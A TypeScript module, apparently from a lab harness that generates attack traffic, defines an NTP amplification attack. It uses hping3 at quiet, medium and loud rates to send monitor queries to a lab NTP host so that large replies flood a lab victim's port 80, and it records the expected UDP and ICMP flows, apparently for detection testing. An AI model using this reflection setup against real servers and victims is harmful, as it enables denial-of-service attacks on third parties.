import type { Attack, Intensity } from '../contracts.ts';
import { monitorQuestion } from '../programs/large-answers.ts';
import type { HpingPlan } from './hping.ts';
import { reflect } from './reflection.ts';

const plans: Readonly<Record<Intensity, HpingPlan>> = {
  quiet: { packetsPerSecond: 0.5, mostPackets: 40 },
  medium: { packetsPerSecond: 10, mostPackets: 250 },
  loud: { packetsPerSecond: 100, mostPackets: 1200 },
};
const ntpPort = 123;
const victimPort = 80;

/** One of us is the reflector: small questions from outside, ten large answers each to the victim outside. */
export const ntpAmplification: Attack = {
  kind: 'ntp-amplification',
  summary: 'a host of ours is made to send lists of its visitors to a victim outside',
  needs: ['hping3'],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'attacker',
  targets: ['nas'],
  async run(order) {
    const victim = order.lab.host('voice').address;
    const reflectors = order.targets.map(host => [host, [host.address]] as const);
    const called = await reflect(order, {
      kind: 'ntp',
      servicePort: ntpPort,
      reflectors,
      question: monitorQuestion,
      victim,
      victimPort,
      plan: plans[order.intensity],
    });
    const between = { actors: [victim], targets: order.targets.map(({ address }) => address) };
    return {
      tool: 'hping3',
      arguments: called,
      claims: [
        { ...between, protocol: 'udp', targetPorts: [ntpPort], actorPorts: [victimPort] },
        { ...between, protocol: 'icmp' },
      ],
    };
  },
};
